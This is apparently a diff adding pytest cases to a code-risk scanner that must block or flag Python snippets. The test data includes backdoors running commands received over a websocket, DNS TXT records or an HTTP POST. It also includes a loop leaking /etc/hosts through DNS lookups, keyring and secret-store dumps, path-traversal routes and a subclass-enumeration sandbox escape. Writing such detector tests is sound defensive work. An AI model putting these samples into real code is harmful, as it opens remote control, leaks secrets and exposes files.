@@ -909,3 +909,160 @@ THEIR_HOSTILE_COUNTERPARTS = {
 def test_their_hostile_counterparts_stay_at_least_high(suite, code):
     assessment = assess(suite, code)
     assert assessment.level >= RiskLevel.HIGH, explain(assessment)
+
+
+COMMAND_CHANNELS = {
+    "aiohttp_websocket_messages_run": """
+        import aiohttp, asyncio, subprocess
+
+        async def main():
+            async with aiohttp.ClientSession() as session:
+                async with session.ws_connect("wss://example.net/feed") as ws:
+                    async for message in ws:
+                        subprocess.Popen(message.data, shell=True)
+
+        asyncio.run(main())
+    """,
+    "dns_answers_run": """
+        import os, dns.resolver
+        for record in dns.resolver.resolve("orders.example.org", "TXT"):
+            os.system(record.to_text().strip('"'))
+    """,
+    "http_handler_runs_the_body": """
+        import os
+        from http.server import BaseHTTPRequestHandler, HTTPServer
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_POST(self):
+                body = self.rfile.read(int(self.headers["Content-Length"]))
+                self.wfile.write(os.popen(body.decode()).read().encode())
+
+        HTTPServer(("", 8000), Handler).serve_forever()
+    """,
+}
+
+
+@pytest.mark.parametrize("code", COMMAND_CHANNELS.values(), ids=COMMAND_CHANNELS.keys())
+def test_commands_from_websockets_dns_answers_and_http_handlers_are_blocked(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level is RiskLevel.BLOCKED, explain(assessment)
+
+
+def test_fixed_commands_reported_over_a_websocket_or_an_http_handler_are_not_high(suite):
+    code = """
+        import asyncio, subprocess, websockets
+        from http.server import BaseHTTPRequestHandler
+
+        class Status(BaseHTTPRequestHandler):
+            def do_GET(self):
+                self.send_response(200)
+                self.end_headers()
+                self.wfile.write(subprocess.run(["uptime"], capture_output=True).stdout)
+
+        async def report():
+            async with websockets.connect("ws://localhost:8765") as ws:
+                await ws.send(subprocess.getoutput("df -h ."))
+                async for reply in ws:
+                    print(reply)
+
+        asyncio.run(report())
+    """
+    assessment = assess(suite, code)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
+
+
+def test_a_system_file_sent_in_slices_on_a_tools_command_line_is_high(suite):
+    code = """
+        import subprocess
+        blob = open("/etc/hosts", "rb").read().hex()
+        for i in range(0, len(blob), 16):
+            subprocess.run(["nslookup", blob[i:i + 16] + ".x.example.com"])
+    """
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.HIGH, explain(assessment)
+    assert "send-system-file" in rules(assessment)
+
+
+def test_pinging_a_host_the_user_names_is_not_high(suite):
+    code = "import subprocess, sys\nsubprocess.run(['ping', '-c', '3', sys.argv[1]])"
+    assert assess(suite, code).level < RiskLevel.HIGH
+
+
+STORES_MAIL_WATCHES_AND_WEB_PATHS = {
+    "keyring_password_of_another_service": "import keyring\nprint(keyring.get_password('github.com', 'octocat'))",
+    "mail_spool_of_another_user": "import mailbox\nfor m in mailbox.mbox('/var/spool/mail/postmaster'):\n    print(m['Subject'])",
+    "inotify_on_roots_home": "import inotify.adapters\nfor e in inotify.adapters.InotifyTree('/root').event_gen():\n    print(e)",
+    "credential_names_joined_to_home_in_a_loop": """
+        from pathlib import Path
+        for rel in (".netrc", ".config/gh/hosts.yml"):
+            print((Path.home() / rel).read_text())
+    """,
+    "flask_query_opens_a_file": """
+        from flask import Flask, request
+        app = Flask(__name__)
+
+        @app.get("/raw")
+        def raw():
+            return open("uploads/" + request.args.get("name", "")).read()
+    """,
+    "fastapi_route_parameter_served": """
+        from fastapi import FastAPI
+        from fastapi.responses import FileResponse
+        api = FastAPI()
+
+        @api.get("/files/{rel}")
+        def fetch(rel: str):
+            return FileResponse("/srv/shared/" + rel)
+    """,
+    "cgi_field_opened": """
+        import cgi
+        print(open("pages/" + cgi.FieldStorage().getvalue("page", "index")).read())
+    """,
+    "gadget_chain_to_a_function": "for c in ''.__class__.__mro__[1].__subclasses__():\n    print(c.__name__)",
+    "setup_with_links_outside_the_index": """
+        from setuptools import setup
+        setup(name="tool", install_requires=["helper"], dependency_links=["http://198.51.100.3/helper.tar.gz#egg=helper"])
+    """,
+}
+
+
+@pytest.mark.parametrize("code", STORES_MAIL_WATCHES_AND_WEB_PATHS.values(), ids=STORES_MAIL_WATCHES_AND_WEB_PATHS.keys())
+def test_credential_stores_mail_spools_watches_web_paths_and_gadgets_are_at_least_medium(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.MEDIUM, explain(assessment)
+
+
+def test_dumping_every_secret_of_the_desktop_store_needs_a_confirmation(suite):
+    code = """
+        import secretstorage
+        for item in secretstorage.get_default_collection(secretstorage.dbus_init()).get_all_items():
+            print(item.get_label(), item.get_secret())
+    """
+    assert assess(suite, code).level >= RiskLevel.HIGH
+
+
+def test_web_routes_that_confine_the_name_and_a_tool_keeping_its_own_token_stay_low(suite):
+    code = """
+        import os, keyring
+        from flask import Flask, request, send_from_directory
+        from werkzeug.utils import secure_filename
+        app = Flask(__name__)
+
+        @app.get("/doc")
+        def doc():
+            return open(os.path.join("docs", os.path.basename(request.args["name"]))).read()
+
+        @app.get("/img/<name>")
+        def img(name):
+            return send_from_directory("static/img", name)
+
+        @app.post("/up")
+        def up():
+            request.files["f"].save(os.path.join("uploads", secure_filename(request.files["f"].filename)))
+            return "ok"
+
+        keyring.set_password("mytool", "me", "s3cret")
+    """
+    assessment = assess(suite, code)
+    assert "request-names-a-file" not in rules(assessment), explain(assessment)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
